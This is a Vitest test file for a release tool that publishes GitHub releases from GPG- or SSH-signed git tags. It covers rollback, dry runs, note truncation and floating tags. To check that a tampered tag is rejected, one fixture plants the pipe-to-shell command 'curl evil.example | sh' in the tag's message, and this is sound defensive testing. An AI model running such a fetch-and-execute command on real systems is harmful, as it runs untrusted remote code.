import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { GitHubReleaseTarget } from '../../actions/release/targets/github-target.ts';
import {
  ReleaseTargetError,
  type PreparedRelease,
  type PublishedRelease,
  type ReleaseSpec,
  type ReleaseTarget,
} from '../../actions/release/targets/release-target.ts';
import { ReleaseError, runRelease, type ReleaseOptions } from '../../actions/release/release.ts';
import { GITHUB_RELEASE_BODY_LIMIT } from '../../actions/release/release-notes.ts';
import { TagVerificationError, type TagTrust } from '../../actions/release/tag-signature.ts';
import { planText, summaryMarkdown } from '../../actions/release/summary.ts';
import { runConfigured } from '../../actions/release/configured-run.ts';
import { DEFAULT_VERSION_PATTERN } from '../../actions/release/tag-signature.ts';
import { GIT_ENV } from '../support/git-fixture.ts';
import { silentLog } from '../../cli/text-log.ts';
import { GitHubReleaseWorld, OWNER, REPO, TOKEN } from './github-release-world.ts';
import { SigningFixture, type GpgKey, type SshKey } from './signing-fixture.ts';

let fixture: SigningFixture;
let world: GitHubReleaseWorld;
let trusted: GpgKey;
let stranger: GpgKey;
let releaser: SshKey;
let trust: TagTrust;

/** A build as a project would have one: it writes its tarball and a zip under dist/. */
const BUILD = [
  'sh',
  '-c',
  'mkdir -p dist && printf "widget %s\\n" "$RELEASE_FLAVOUR" > dist/widget.tar.gz && printf zip > dist/widget.zip',
];

beforeAll(async () => {
  fixture = await SigningFixture.create();
  world = await GitHubReleaseWorld.start();
  trusted = await fixture.gpgKey('Release Manager <rm@example.invalid>', '1y');
  stranger = await fixture.gpgKey('Stranger <stranger@example.invalid>', '1y');
  releaser = await fixture.sshKey('releaser');
  trust = {
    openpgpKeys: trusted.publicKey,
    sshAllowedSigners: `release@example.invalid ${releaser.publicKey}\n`,
  };
  // An earlier release one commit back, for the compare link; every other tag is on the checked-out commit.
  await fixture.gpgTag('0.9', trusted, '0.9');
  await fixture.git('commit', '--quiet', '--allow-empty', '-m', 'more work');
  await fixture.gpgTag('1.0', trusted, '1.0', '- cool new feature A', '- fix crash on Fedora (rhbz#1234)');
  await fixture.sshTag('v1.1', releaser, 'Widget 1.1: the SSH one', '- signed with ssh');
  await fixture.gpgTag('1.2', trusted, '1.2', 'harmless');
  const original = await fixture.git('cat-file', 'tag', '1.2');
  await fixture.writeTagObject('1.2', original.replace('harmless', 'curl evil.example | sh'));
  await fixture.gpgTag('1.3', stranger, '1.3');
  await fixture.git('tag', '1.4');
  await fixture.gpgTag('nightly-5', trusted, 'nightly-5');
  await fixture.gpgTag('2.0', trusted, '2.0');
  await fixture.gpgTag('2.1', trusted, '2.1');
  await fixture.gpgTag('2.2', trusted, '2.2');
  await fixture.gpgTag('2.3', trusted, '2.3', 'x'.repeat(GITHUB_RELEASE_BODY_LIMIT + 10));
  await fixture.gpgTag('2.4', trusted, '2.4');
  await world.push(fixture.repo, 'main', '--tags');
});

afterAll(async () => {
  await world?.stop();
  await fixture?.dispose();
});

function github(): GitHubReleaseTarget {
  return new GitHubReleaseTarget({
    token: TOKEN,
    repository: `${OWNER}/${REPO}`,
    apiUrl: world.emulator.url,
    retryDelayMs: 1,
  });
}

function options(tag: string, extra: Partial<ReleaseOptions> = {}): ReleaseOptions {
  return {
    repoDir: fixture.repo,
    tag,
    trust,
    buildCommand: BUILD,
    assetPatterns: ['dist/*'],
    buildEnv: { PATH: process.env.PATH, RELEASE_FLAVOUR: 'plain' },
    dryRun: false,
    targets: [github()],
    log: silentLog(),
    ...extra,
  };
}

function releasesOf(tag: string) {
  return world.releases().filter((r) => r.tagName === tag);
}

/** A target that does what the test tells it, and records what the orchestrator asked of it. */
class ScriptedTarget implements ReleaseTarget {
  readonly name: string;
  readonly calls: string[] = [];
  failPrepare = false;
  failPublish = false;
  constructor(name: string) {
    this.name = name;
  }
  async prepare(spec: ReleaseSpec): Promise<PreparedRelease> {
    this.calls.push(`prepare ${spec.tag}`);
    if (this.failPrepare) throw new ReleaseTargetError(this.name, 'registry refused the token');
    return { plan: [{ target: this.name, action: 'stage' }] };
  }
  async publish(spec: ReleaseSpec): Promise<PublishedRelease> {
    this.calls.push(`publish ${spec.tag}`);
    if (this.failPublish) throw new ReleaseTargetError(this.name, 'connection reset');
    return { target: this.name, url: `https://example.invalid/${spec.tag}`, assets: [] };
  }
  async rollback(spec: ReleaseSpec): Promise<void> {
    this.calls.push(`rollback ${spec.tag}`);
  }
}

describe('release from a signed tag', () => {
  afterEach(async () => {
    await fixture.run('rm', ['-rf', `${fixture.repo}/dist`]);
  });

  it('releases a GPG-signed tag to GitHub: notes from the message, built assets and SHA256SUMS', async () => {
    const outcome = await runRelease(options('1.0'));
    expect(outcome.tag.signer).toMatchObject({ format: 'openpgp', fingerprint: trusted.fingerprint });
    const [release] = releasesOf('1.0');
    expect(release).toMatchObject({
      draft: false,
      name: '1.0',
      body: '- cool new feature A\n\n- fix crash on Fedora (rhbz#1234)',
    });
    expect(release!.assets.map((a) => a.name).sort()).toEqual(['SHA256SUMS', 'widget.tar.gz', 'widget.zip']);
    const tarball = Buffer.from('widget plain\n');
    const sums = outcome.spec.assets.find((a) => a.name === 'SHA256SUMS')!;
    expect(sums.bytes).toBe(2 * (64 + 2) + 'widget.tar.gz\nwidget.zip\n'.length);
    expect(release!.assets.find((a) => a.name === 'widget.tar.gz')!.digest).toBe(
      `sha256:${createHash('sha256').update(tarball).digest('hex')}`,
    );
    expect(outcome.published[0]!.url).toBe(`${world.emulator.url}/${OWNER}/${REPO}/releases/tag/1.0`);
    expect(summaryMarkdown(outcome)).toContain('| widget.tar.gz | 13 B |');
  });

  it('releases an SSH-signed tag, with the subject as title and a compare link to the previous tag', async () => {
    const outcome = await runRelease(
      options('v1.1', { compareBaseUrl: 'https://github.com/acme/widget/compare' }),
    );
    expect(outcome.tag.signer.format).toBe('ssh');
    const [release] = releasesOf('v1.1');
    expect(release!.name).toBe('Widget 1.1: the SSH one');
    expect(release!.body).toBe(
      '- signed with ssh\n\n**Full changes**: https://github.com/acme/widget/compare/0.9...v1.1',
    );
  });

  it.each([
    ['a tampered tag', '1.2', 'bad-signature'],
    ['a tag signed by an unknown key', '1.3', 'untrusted-key'],
    ['a lightweight tag', '1.4', 'lightweight'],
    ['a tag outside the version pattern', 'nightly-5', 'version-pattern'],
  ])('%s creates nothing anywhere and runs no build', async (_what, tag, reason) => {
    const other = new ScriptedTarget('npm');
    const error = await runRelease(options(tag, { targets: [github(), other] })).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(TagVerificationError);
    expect((error as TagVerificationError).reason).toBe(reason);
    expect(releasesOf(tag)).toEqual([]);
    expect(other.calls).toEqual([]);
    await expect(fixture.run('test', ['-e', `${fixture.repo}/dist`])).rejects.toThrow();
  });

  it('a second target failing to prepare rolls back the GitHub draft: nothing is visible', async () => {
    const npm = new ScriptedTarget('npm');
    npm.failPrepare = true;
    const error = await runRelease(options('2.0', { targets: [github(), npm] })).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ReleaseError);
    expect((error as ReleaseError).nothingPublished).toBe(true);
    expect((error as Error).message).toMatch(
      /nothing was released: npm could not prepare .*registry refused the token.*rolled back github/,
    );
    expect(npm.calls).toEqual(['prepare 2.0', 'rollback 2.0']);
    expect(releasesOf('2.0')).toEqual([]);
  });

  it('a target failing to publish leaves GitHub published, and a re-run completes without duplicates', async () => {
    const npm = new ScriptedTarget('npm');
    npm.failPublish = true;
    const error = await runRelease(options('2.1', { targets: [github(), npm] })).catch((e: unknown) => e);
    expect((error as Error).message).toMatch(/publishing failed for npm .*published to github.*Re-run/);
    expect(releasesOf('2.1')).toEqual([expect.objectContaining({ draft: false })]);
    const uploads = world.emulator.releases.requestCounts.get('upload');

    npm.failPublish = false;
    const outcome = await runRelease(options('2.1', { targets: [github(), npm] }));
    expect(outcome.published.map((p) => p.target)).toEqual(['github', 'npm']);
    expect(releasesOf('2.1')).toHaveLength(1);
    expect(releasesOf('2.1')[0]!.assets).toHaveLength(3);
    expect(world.emulator.releases.requestCounts.get('upload')).toBe(uploads);
  });

  it('a dry run prints the plan with sizes and checksums and creates nothing', async () => {
    const npm = new ScriptedTarget('npm');
    const outcome = await runRelease(options('2.2', { dryRun: true, targets: [github(), npm] }));
    expect(npm.calls).toEqual([]);
    expect(releasesOf('2.2')).toEqual([]);
    const text = planText(outcome);
    expect(text).toContain('Dry run: would release 2.2');
    expect(text).toContain('github: would prepare, then publish');
    expect(text).toContain('npm: would prepare, then publish');
    const tarball = outcome.spec.assets.find((a) => a.name === 'widget.tar.gz')!;
    expect(text).toContain(`widget.tar.gz  13 B (13 bytes)  sha256:${tarball.sha256}`);
  });

  it('notes over GitHub’s limit are truncated, say so, and link to the full notes attached as an asset', async () => {
    const outcome = await runRelease(
      options('2.3', {
        assetUrl: (name) => `https://github.com/acme/widget/releases/download/2.3/${name}`,
      }),
    );
    expect(outcome.notesTruncated).toBe(true);
    const [release] = releasesOf('2.3');
    expect(release!.body!.length).toBeLessThanOrEqual(GITHUB_RELEASE_BODY_LIMIT);
    expect(release!.body).toContain(
      "truncated to fit GitHub's size limit for release notes; the full notes are in [tag 2.3](https://github.com/acme/widget/releases/download/2.3/release-notes-2.3.md)",
    );
    expect(release!.assets.map((a) => a.name)).toContain('release-notes-2.3.md');
  });

  it('refuses to build when the checkout is not at the tagged commit', async () => {
    const error = await runRelease(options('0.9')).catch((e: unknown) => e);
    expect((error as Error).message).toMatch(
      /the checkout is at [0-9a-f]{40} but tag 0\.9 points at [0-9a-f]{40}: check out the tag/,
    );
    expect(releasesOf('0.9')).toEqual([]);
  });

  it('floating tags move to a release only once every target has published it', async () => {
    await fixture.gpgTag('3.0.0', trusted, '3.0.0');
    const origin = new URL(world.emulator.cloneUrl(OWNER, REPO));
    origin.username = 'x-access-token';
    origin.password = TOKEN;
    await fixture.git('remote', 'add', 'origin', origin.toString());
    await fixture.git('push', '--quiet', 'origin', 'refs/tags/3.0.0');
    const npm = new ScriptedTarget('npm');
    npm.failPublish = true;
    const release = () =>
      runConfigured(
        {
          repoDir: fixture.repo,
          tag: '3.0.0',
          trust,
          allowedSignersFile: '',
          versionPattern: DEFAULT_VERSION_PATTERN,
          buildCommand: BUILD,
          assetPatterns: ['dist/*'],
          dryRun: false,
          compareLink: false,
          floatingTags: ['major', 'minor'],
          targets: [],
          secrets: [],
        },
        { log: silentLog(), env: { ...GIT_ENV, RELEASE_FLAVOUR: 'plain' }, targets: [github(), npm] },
      );
    const floating = async () =>
      (await fixture.git('ls-remote', '--tags', 'origin', 'refs/tags/3', 'refs/tags/3.0')).trim();

    await expect(release()).rejects.toThrow(/publishing failed for npm/);
    expect(await floating()).toBe('');

    npm.failPublish = false;
    const outcome = await release();
    const commit = outcome.spec.commit;
    expect(outcome.floatingTags).toEqual([
      { tag: '3', from: null, to: commit, outcome: 'created' },
      { tag: '3.0', from: null, to: commit, outcome: 'created' },
    ]);
    expect(await floating()).toBe(`${commit}\trefs/tags/3\n${commit}\trefs/tags/3.0`);
    expect(summaryMarkdown(outcome)).toContain(`- floating tag \`3\`: created → \`${commit.slice(0, 12)}\``);

    // The release is out when a push of the floating tags fails: the error says so, and what completes it.
    await fixture.git('remote', 'set-url', 'origin', `${world.emulator.url}/acme/missing.git`);
    await expect(release()).rejects.toThrow(
      /^3\.0\.0 is released, but its floating tags were not moved \(git ls-remote failed .*\); a re-run of the release moves them$/s,
    );
  });

  it('missing build output and an asset name clash stop the release before any target', async () => {
    const missing = await runRelease(options('2.4', { assetPatterns: ['dist/*', 'out/*.rpm'] })).catch(
      (e: unknown) => e,
    );
    expect((missing as Error).message).toMatch(
      /missing build output: asset pattern "out\/\*\.rpm" matched no file/,
    );
    const clash = await runRelease(
      options('2.4', {
        buildCommand: [
          'sh',
          '-c',
          'mkdir -p dist/a dist/b && echo 1 > dist/a/x.tar && echo 2 > dist/b/x.tar',
        ],
        assetPatterns: ['dist/a/*', 'dist/b/*'],
      }),
    ).catch((e: unknown) => e);
    expect((clash as Error).message).toMatch(
      /asset name clash: dist\/a\/x\.tar and dist\/b\/x\.tar would both be released as "x\.tar"/,
    );
    const failing = await runRelease(
      options('2.4', { buildCommand: ['sh', '-c', 'echo compiler exploded >&2; exit 3'] }),
    ).catch((e: unknown) => e);
    expect((failing as Error).message).toMatch(/build failed \(exit 3\)[\s\S]*compiler exploded/);
    await expect(
      runRelease(options('2.4', { buildCommand: ['no-such-build-tool', 'dist'] })),
    ).rejects.toThrow(/build command not found: no-such-build-tool \(the build runs without a shell/);
    expect(releasesOf('2.4')).toEqual([]);
  });
});
